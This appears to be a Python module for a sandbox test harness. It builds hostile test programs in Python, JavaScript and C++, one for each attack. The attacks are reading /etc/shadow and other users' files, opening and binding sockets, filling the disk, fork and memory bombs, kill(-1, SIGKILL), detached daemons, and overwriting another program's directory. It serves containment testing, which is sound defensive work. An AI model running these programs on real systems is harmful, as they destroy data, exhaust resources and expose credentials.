"""Hostile test programs, one per attack and language (python, js, cpp). Each exits 0 only if its attack worked:
a contained attack is scored as a failure (or a timeout) like any wrong answer."""

from __future__ import annotations

from dataclasses import dataclass

LANGS = ("python", "js", "cpp")
PROBES = ("read_secrets", "connect", "bind", "fill_disk", "fork_bomb", "memory_bomb", "kill", "daemon", "write_other")


@dataclass(frozen=True)
class Targets:
    """What the attacks aim at: files the harness can read, a listener, a port, another program's dir."""

    secret_file: str  # a 0600 file holding `secret`
    secret: str
    home: str  # the harness user's $HOME
    victim_dir: str  # looks like another program's work dir (world-writable)
    victim_file: str
    listen_port: int  # a loopback listener the test runs
    bind_port: int  # a free port the program tries to serve on
    marker: str  # tags the daemon's command line


def program(probe: str, lang: str, t: Targets) -> str:
    """The source of one hostile program."""
    return (
        _PROGRAMS[lang][probe]
        .replace("@SECRET_FILE@", t.secret_file)
        .replace("@HOME@", t.home)
        .replace("@VICTIM_DIR@", t.victim_dir)
        .replace("@VICTIM_FILE@", t.victim_file)
        .replace("@LISTEN_PORT@", str(t.listen_port))
        .replace("@BIND_PORT@", str(t.bind_port))
        .replace("@MARKER@", t.marker)
    )


_PY = {
    "read_secrets": """
import os, sys
got = []
for path in ["/etc/shadow", "@SECRET_FILE@", "@VICTIM_FILE@"]:
    try:
        got.append(open(path).read())
    except OSError as exc:
        print(exc, file=sys.stderr)
for folder in ["/root", "@HOME@", "@VICTIM_DIR@"]:  # any file of root's, the user's or another program's
    try:
        got += [open(e.path).read() for e in os.scandir(folder) if e.is_file()]
    except OSError as exc:
        print(exc, file=sys.stderr)
print(got, file=sys.stderr)
sys.exit(0 if got else 1)
""",
    "connect": """
import socket
s = socket.create_connection(("127.0.0.1", @LISTEN_PORT@), timeout=2)
s.sendall(b"PWNED")
""",
    "bind": """
import socket, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", @BIND_PORT@))
s.listen()
s.settimeout(2.5)
conn, _ = s.accept()  # raises a timeout unless someone outside reached us
""",
    "fill_disk": """
import os, signal, sys
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
total, chunk = 0, b"x" * (8 << 20)
for where in [".", "/tmp", "/dev/shm", "/", "@HOME@"]:
    for i in range(64):
        try:
            with open(os.path.join(where, f"fill{i}"), "wb") as fh:
                while True:
                    fh.write(chunk)
                    fh.flush()
                    total += len(chunk)
        except OSError:
            pass
print(f"wrote {total}", file=sys.stderr)
sys.exit(0 if total > (1 << 30) else 1)
""",
    "fork_bomb": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "memory_bomb": """
blocks = []
while True:
    blocks.append(bytearray(256 << 20))
""",
    "kill": """
import os, signal, time
for pid in (-1, os.getppid()):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
time.sleep(100)
""",
    "daemon": """
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 3)
        os.execvp("sleep", ["sleep", "@MARKER@"])
    os._exit(0)
os.wait()
sys.exit(1)
""",
    "write_other": """
import glob, os, sys
wrote = 0
for d in ["@VICTIM_DIR@", *glob.glob("/tmp/gitocto-*")]:
    for name in ["program.py", "planted.txt"]:
        try:
            open(os.path.join(d, name), "w").write("owned")
            wrote += os.path.realpath(d) != os.path.realpath(".")
        except OSError as exc:
            print(exc, file=sys.stderr)
sys.exit(0 if wrote else 1)
""",
}

# js: any output at all is a failed test, so a contained attack fails even where it prints nothing else.
_JS = {
    "read_secrets": """
const fs = require('fs');
let got = [];
for (const p of ['/etc/shadow', '@SECRET_FILE@', '@VICTIM_FILE@']) {
  try { got.push(fs.readFileSync(p, 'utf8')); } catch (e) { console.error(e.message); }
}
for (const dir of ['/root', '@HOME@', '@VICTIM_DIR@']) {
  try {
    for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
      if (e.isFile()) got.push(fs.readFileSync(dir + '/' + e.name, 'utf8'));
    }
  } catch (e) { console.error(e.message); }
}
if (!got.length) process.exit(1);
""",
    "connect": """
const s = require('net').connect(@LISTEN_PORT@, '127.0.0.1', () => { s.end('PWNED'); });
s.on('error', (e) => { console.error(e.message); process.exit(1); });
""",
    "bind": """
const srv = require('net').createServer(() => process.exit(0));
srv.on('error', (e) => { console.error(e.message); process.exit(1); });
srv.listen(@BIND_PORT@, '0.0.0.0');
setTimeout(() => { console.error('nobody came'); process.exit(1); }, 2500);
""",
    "fill_disk": """
const fs = require('fs');
process.on('SIGXFSZ', () => {});
const chunk = Buffer.alloc(8 << 20, 120);
let total = 0;
for (const where of ['.', '/tmp', '/dev/shm', '/', '@HOME@']) {
  for (let i = 0; i < 64; i++) {
    try {
      const fd = fs.openSync(where + '/fill' + i, 'w');
      try { for (;;) { fs.writeSync(fd, chunk); total += chunk.length; } } finally { fs.closeSync(fd); }
    } catch (e) {}
  }
}
console.error('wrote ' + total);
process.exit(total > (1 << 30) ? 0 : 1);
""",
    "fork_bomb": """
const { spawn } = require('child_process');
function again() {
  try { spawn(process.execPath, [__filename], { stdio: 'ignore' }).on('error', () => {}); } catch (e) {}
  setImmediate(again);
}
again();
""",
    "memory_bomb": """
const blocks = [];
for (;;) { const b = Buffer.alloc(256 << 20, 1); blocks.push(b); }
""",
    "kill": """
for (const pid of [-1, process.ppid]) { try { process.kill(pid, 'SIGKILL'); } catch (e) {} }
setTimeout(() => {}, 100000);
""",
    "daemon": """
require('child_process').spawn('sleep', ['@MARKER@'], { detached: true, stdio: 'ignore' }).unref();
process.exit(1);
""",
    "write_other": """
const fs = require('fs');
let dirs = ['@VICTIM_DIR@'];
try { dirs = dirs.concat(fs.readdirSync('/tmp').filter((d) => d.startsWith('gitocto-')).map((d) => '/tmp/' + d)); }
catch (e) {}
let wrote = 0;
for (const d of dirs) {
  for (const name of ['program.js', 'planted.txt']) {
    try { fs.writeFileSync(d + '/' + name, 'owned'); if (fs.realpathSync(d) !== process.cwd()) wrote++; }
    catch (e) { console.error(e.message); }
  }
}
process.exit(wrote ? 0 : 1);
""",
}

_CPP_HEAD = """#include <arpa/inet.h>
#include <dirent.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>
"""

_CPP = {
    "read_secrets": """
static int readable(const char* p) {
    FILE* f = fopen(p, "r");
    if (!f) { perror(p); return 0; }
    char b[256]; size_t n = fread(b, 1, 255, f); b[n] = 0; fprintf(stderr, "%s\\n", b); fclose(f); return 1;
}
static int files_readable(const char* p) {  // any file of root's, the user's or another program's
    DIR* d = opendir(p);
    if (!d) { perror(p); return 0; }
    int n = 0; struct dirent* e;
    while ((e = readdir(d))) if (e->d_type == DT_REG) n += readable((std::string(p) + "/" + e->d_name).c_str());
    closedir(d); return n > 0;
}
int main() {
    int got = readable("/etc/shadow") + readable("@SECRET_FILE@") + readable("@VICTIM_FILE@")
        + files_readable("/root") + files_readable("@HOME@") + files_readable("@VICTIM_DIR@");
    return got ? 0 : 1;
}
""",
    "connect": """
int main() {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in a{}; a.sin_family = AF_INET; a.sin_port = htons(@LISTEN_PORT@);
    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
    if (connect(s, (sockaddr*)&a, sizeof a) != 0) { perror("connect"); return 1; }
    return write(s, "PWNED", 5) == 5 ? 0 : 1;
}
""",
    "bind": """
int main() {
    int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    sockaddr_in a{}; a.sin_family = AF_INET; a.sin_port = htons(@BIND_PORT@); a.sin_addr.s_addr = INADDR_ANY;
    if (bind(s, (sockaddr*)&a, sizeof a) != 0 || listen(s, 8) != 0) { perror("bind"); return 1; }
    pollfd p{s, POLLIN, 0};
    if (poll(&p, 1, 2500) == 1 && accept(s, nullptr, nullptr) >= 0) return 0;
    fprintf(stderr, "nobody came\\n");
    return 1;
}
""",
    "fill_disk": """
int main() {
    signal(SIGXFSZ, SIG_IGN);
    std::vector<char> chunk(8 << 20, 'x');
    long long total = 0;
    const char* dirs[] = {".", "/tmp", "/dev/shm", "/", "@HOME@"};
    for (const char* d : dirs) for (int i = 0; i < 64; i++) {
        std::string path = std::string(d) + "/fill" + std::to_string(i);
        FILE* f = fopen(path.c_str(), "wb");
        if (!f) continue;
        while (fwrite(chunk.data(), 1, chunk.size(), f) == chunk.size() && fflush(f) == 0) total += chunk.size();
        fclose(f);
    }
    fprintf(stderr, "wrote %lld\\n", total);
    return total > (1LL << 30) ? 0 : 1;
}
""",
    "fork_bomb": """
int main() { for (;;) fork(); }
""",
    "memory_bomb": """
int main() {
    std::vector<char*> blocks;
    for (;;) { char* b = (char*)malloc(256 << 20); if (!b) { perror("malloc"); return 1; } memset(b, 1, 256 << 20);
               blocks.push_back(b); }
}
""",
    "kill": """
int main() { kill(-1, SIGKILL); kill(getppid(), SIGKILL); sleep(100); return 0; }
""",
    "daemon": """
int main() {
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            for (int fd = 0; fd < 3; fd++) close(fd);
            execlp("sleep", "sleep", "@MARKER@", (char*)nullptr);
        }
        _exit(0);
    }
    return 1;
}
""",
    "write_other": """
int main() {
    std::vector<std::string> dirs = {"@VICTIM_DIR@"};
    if (DIR* t = opendir("/tmp")) {
        while (dirent* e = readdir(t))
            if (strncmp(e->d_name, "gitocto-", 8) == 0) dirs.push_back(std::string("/tmp/") + e->d_name);
        closedir(t);
    }
    char cwd[4096]; getcwd(cwd, sizeof cwd);
    int wrote = 0;
    for (auto& d : dirs) for (const char* name : {"program.cpp", "planted.txt"}) {
        std::string path = d + "/" + name;
        FILE* f = fopen(path.c_str(), "w");
        if (!f) { perror(path.c_str()); continue; }
        fputs("owned", f); fclose(f);
        char real[4096];
        if (realpath(d.c_str(), real) && strcmp(real, cwd) != 0) wrote++;
    }
    return wrote ? 0 : 1;
}
""",
}

_PROGRAMS = {"python": _PY, "js": _JS, "cpp": {k: _CPP_HEAD + v for k, v in _CPP.items()}}
